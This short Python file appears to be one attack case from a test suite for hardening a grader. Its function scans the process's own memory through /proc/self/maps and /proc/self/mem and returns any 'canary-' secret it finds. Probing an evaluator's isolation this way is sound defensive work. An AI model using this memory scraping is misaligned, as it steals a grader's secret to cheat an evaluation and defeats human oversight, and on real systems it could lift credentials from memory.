# cases: 7
# guard: everything
"""Looks through all of its own memory for the grader's secret."""
import re


def attack(bait):
    with open("/proc/self/maps") as file:
        ranges = [line.split()[:2] for line in file if "[v" not in line]
    with open("/proc/self/mem", "rb", buffering=0) as memory:
        for addresses, rights in ranges:
            start, end = (int(part, 16) for part in addresses.split("-"))
            try:
                memory.seek(start)
                for _ in range(start, min(end, start + 64_000_000), 1_000_000):
                    found = re.search(rb"canary-[0-9a-f]{32}", memory.read(min(1_000_000, end - memory.tell())))
                    if found:
                        return found[0].decode()
            except (OSError, ValueError):
                continue
